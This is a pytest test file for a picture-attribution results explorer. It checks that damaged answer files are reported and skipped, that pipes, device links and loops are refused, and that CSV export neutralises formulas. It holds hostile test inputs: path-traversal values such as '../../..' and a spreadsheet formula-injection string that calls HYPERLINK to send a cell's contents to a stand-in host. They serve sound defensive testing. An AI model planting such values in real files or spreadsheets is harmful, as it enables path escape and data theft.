"""Answers read back: a damaged one is named in a line, and the others are shown as they are."""

import csv
import io
import json
import os
import re
import shutil

import numpy as np
import pytest
from PIL import Image
from test_explorer import pictures, write

from concept_trak.datasets.image_folder import ImageCaptionDataset
from concept_trak.errors import UserError
from concept_trak.report.explorer import explore
from concept_trak.report.saved_answer import OURS, Kept, read_asked
from concept_trak.report.tables import csv_bytes, read_csv
from concept_trak.settings import resolve


@pytest.fixture(scope="module")
def made(tmp_path_factory):
    """Two answers over 24 pictures."""
    root = tmp_path_factory.mktemp("made")
    data = pictures(root / "data", 24)
    for prompt in ("a dog and a cat", "a cat in the style of blob"):
        write(root / "qual", data, prompt, ("das",))
    return root


@pytest.fixture
def kept(made, tmp_path):
    """A copy of them: (RESULTS_DIR, folder of the one that is to be damaged)."""
    shutil.copytree(made / "qual", tmp_path / "qual", symlinks=True)
    return tmp_path / "qual", next((tmp_path / "qual/free_query").glob("a-cat-in*"))


def shown(results):
    """What the page over all answers knows."""
    page = explore(resolve("emoji", {"results_dir": str(results)})).read_text()
    return json.loads(re.search(r'<script type="application/json"[^>]*>(.*?)</script>', page)[1])


def change(folder, **values):
    path = folder / "question.json"
    path.write_text(json.dumps(json.loads(path.read_text()) | values))


def rewrite(folder, name, make):
    """A file of the first concept by another hand, the checksums of the answer left out."""
    path = folder / "target_cat" / name
    content = make(path.read_bytes())
    path.unlink()
    path.write_bytes(content)
    change(folder, files={})


def header(*names):
    return lambda text: ",".join(names).encode() + text[text.index(b"\n") :]


def array(values):
    def content(_):
        file = io.BytesIO()
        np.save(file, values)
        return file.getvalue()

    return content


DAMAGE = {
    "nulls": lambda f: (f / "question.json").write_text(
        json.dumps(dict.fromkeys(json.loads((f / "question.json").read_text())))
    ),
    "half a question": lambda f: (f / "question.json").write_text('{"prompt": "a'),
    "a list": lambda f: (f / "question.json").write_text("[1]"),
    "no dampings": lambda f: change(f, dampings=None),
    "a huge damping": lambda f: change(f, dampings=[10**400]),
    "another damping": lambda f: change(f, dampings=[7.0]),
    "texts for targets": lambda f: change(f, targets="cat"),
    "too few folders": lambda f: change(f, folders=["target_cat"]),
    "a folder outside": lambda f: change(f, folders=["../../..", "target_blob"], files={}),
    "a method outside": lambda f: change(f, methods=["x/../../../../secret"], files={}),
    "a root that is no text": lambda f: change(f, pictures={"root": "a\0", "digest": ""}),
    "no settings": lambda f: change(f, settings={}),
    "half a table": lambda f: rewrite(f, "scores.csv", lambda text: text[: len(text) // 2]),
    "an empty table": lambda f: rewrite(f, "scores.csv", lambda text: b"x\n"),
    "a table without header": lambda f: rewrite(f, "scores.csv", lambda t: t.split(b"\n", 1)[1]),
    "another header": lambda f: rewrite(f, "scores.csv", header(*"abcdefghij")),
    "a row twice": lambda f: rewrite(f, "scores.csv", lambda t: t + t.splitlines()[-1]),
    "a fit of words": lambda f: rewrite(f, "scores.csv", lambda t: re.sub(rb"0\.\d{3},", b"x,", t)),
    "a name outside": lambda f: rewrite(f, "scores.csv", lambda t: t.replace(b"art/", b"../")),
    "an absolute name": lambda f: rewrite(f, "scores.csv", lambda t: t.replace(b"art/", b"/")),
    "a picture less": lambda f: rewrite(f, "scores.npy", array(np.zeros((9, 23), "<f4"))),
    "a damping less": lambda f: rewrite(f, "scores.npy", array(np.zeros((8, 24), "<f4"))),
    "no numbers": lambda f: rewrite(f, "scores.npy", array(np.full((9, 24), np.nan, "<f4"))),
    "texts": lambda f: rewrite(f, "scores-das.npy", array(np.full((9, 24), "a"))),
    "no picture": lambda f: rewrite(f, "query.png", lambda content: content[:40]),
    "another picture's bit": lambda f: _flip(f / "target_cat/query.png"),
    "a score's bit": lambda f: _flip(f / "target_blob/scores.npy"),
    "a caption's bit": lambda f: _flip(f / "target_cat/scores.csv"),
}


def _flip(path):
    content = bytearray(path.read_bytes())
    content[len(content) * 3 // 4] ^= 1
    path.write_bytes(content)


@pytest.mark.parametrize("how", DAMAGE)
def test_a_damaged_answer_is_named_in_a_line_and_the_others_are_shown(kept, how, capsys):
    results, folder = kept
    DAMAGE[how](folder)
    assert [answer["prompt"] for answer in shown(results)["answers"]] == ["a dog and a cat"]
    left = [line for line in capsys.readouterr().out.splitlines() if line.startswith("left out: ")]
    assert len(left) == 1 and folder.name in left[0]
    assert (
        "ask it again: rm -r " in left[0] or "give a name below" in left[0] or "remove" in left[0]
    )


@pytest.mark.parametrize("kind", ["pipe", "folder", "device", "nothing", "loop"])
def test_what_is_no_file_holds_nobody(kept, kind):
    _, folder = kept
    answer = Kept(folder, read_asked(folder))
    readers = {
        "query.png": answer.query,
        "scores.csv": lambda: answer.rows("target_cat"),
        "scores-das.npy": lambda: answer.scores("target_cat", "das", 24),
        "../question.json": lambda: read_asked(folder),
    }
    for name, read in readers.items():
        path = folder / "target_cat" / name
        path.unlink()
        if kind == "pipe":
            os.mkfifo(path)
        elif kind == "folder":
            path.mkdir()
        elif kind != "nothing":
            path.symlink_to("/dev/zero" if kind == "device" else path.name)
        with pytest.raises(UserError):
            read()


def test_where_no_answer_is_whole_that_is_said(kept):
    results, folder = kept
    for other in (results / "free_query").glob("a-*"):
        change(other, dampings=None)
    with pytest.raises(UserError, match="no answer to explore yet"):
        shown(results)
    with pytest.raises(UserError, match=r"question\.json: dampings is missing.*ask it again: rm"):
        read_asked(folder)


def test_an_answer_of_an_earlier_version_is_shown(kept):
    results, folder = kept
    path = folder / "question.json"
    known = json.loads(path.read_text())
    for name in ("files", "search", "warnings", "unseen"):
        del known[name]
    del known["pictures"]["looks"]
    path.write_text(json.dumps(known))
    assert len(shown(results)["answers"]) == 2


def test_where_all_were_found_by_an_index_nothing_failed(kept, capsys):
    results, _ = kept
    for folder in (results / "free_query").glob("a-*"):
        change(folder, search="index")
    assert explore(resolve("emoji", {"results_dir": str(results)})) is None
    assert capsys.readouterr().out.count("knows its candidates' scores only") == 2


# --- whose pictures


def green(root):
    for path in root.rglob("*.png"):
        Image.new("RGB", (16, 16), (0, 255, 0)).save(path)


def test_folders_of_the_same_names_and_captions_are_told_apart(tmp_path):
    one, two = (pictures(tmp_path / name, 24) for name in ("one", "two"))
    green(tmp_path / "two")
    for seed, data in enumerate((one, two)):
        write(tmp_path / "qual", data, seed=seed)
    found = shown(tmp_path / "qual")
    assert len(found["datasets"]) == 2
    bases = [found["datasets"][answer["dataset"]]["base"] for answer in found["answers"]]
    assert {base.rsplit("/", 1)[1] for base in bases} == {"one", "two"}


@pytest.mark.parametrize("what", ["retouched", "moved", "a caption"])
def test_pictures_that_were_not_scored_are_not_shown(tmp_path, what, capsys):
    data = pictures(tmp_path / "data", 24)
    write(tmp_path / "qual", data)
    if what == "moved":
        (tmp_path / "data").rename(tmp_path / "elsewhere")
    elif what == "retouched":
        green(tmp_path / "data")
        data = ImageCaptionDataset(data.root, data.records, data.captions)
    else:
        data = pictures(tmp_path / "other", 24)
        data.root, data.captions[0] = tmp_path / "data", "another"
    write(tmp_path / "qual", data, seed=1) if what != "moved" else None
    found = shown(tmp_path / "qual")
    told = [answer["warnings"] for answer in found["answers"]]
    if what == "a caption":
        assert told == [[], []] and len(found["datasets"]) == 2
        return
    assert "no pictures are shown" in told[-1][0]
    assert capsys.readouterr().out.count("no pictures are shown") == 1
    assert what == "moved" or (told[0] == [] and len(found["datasets"]) == 2)


def test_two_targets_of_one_slug_keep_their_own_scores(tmp_path):
    data = pictures(tmp_path / "data", 24)
    folder = write(tmp_path / "qual", data, targets=("cat dog", "cat-dog"))
    kept = Kept(folder, read_asked(folder))
    one, two = (kept.scores(name, OURS, 24) for _, _, name in kept.concepts)
    assert (one != two).any() and len(list(folder.glob("target_*"))) == 2
    html = (folder / "report.html").read_text()
    assert all(f'href="{name}/scores.csv"' in html for _, _, name in kept.concepts)


def test_a_damaged_sheet_is_made_again_and_its_place_may_be_taken(kept):
    results, _ = kept
    whole = shown(results), (results / "explorer.html").read_bytes()
    (sheet,) = (results / ".sheets").iterdir()
    content = sheet.read_bytes()
    _flip(sheet)
    assert (shown(results), (results / "explorer.html").read_bytes()) == whole
    assert sheet.read_bytes() == content
    sheet.unlink()
    sheet.mkdir()
    assert (shown(results), (results / "explorer.html").read_bytes()) == whole


# --- tables

RUN = ('=HYPERLINK("http://x/?"&A1,"cat")', "@SUM(1+1) cat", "+1 cat", "-cat", "\t=1", "\r=1")
PLAIN = ("a cat", "'tis a cat", "a=b", "", "3", "-3.5", "'", "a\rb\nc", "\u732b")


@pytest.mark.parametrize("text", [*RUN, *PLAIN, "'=1", "''@a", "\uff1dA1", "\n=1"])
def test_a_table_runs_nothing_and_reads_back_as_it_was(tmp_path, text):
    path = tmp_path / "a.csv"
    path.write_bytes(csv_bytes(["rank", "caption", "score"], [[1, text, "-1.5e-07"]]))
    assert read_csv(path, "x", ["caption"]) == [{"rank": "1", "caption": text, "score": "-1.5e-07"}]
    with path.open(newline="") as file:
        (row,) = csv.DictReader(file)
    number = re.fullmatch(r"-?\d+(\.\d+)?", row["caption"])
    assert number or row["caption"][:1] not in tuple("=+-@\t\r\n\uff1d")
    assert float(row["score"]) == -1.5e-7
    if text in PLAIN:
        assert row["caption"] == text
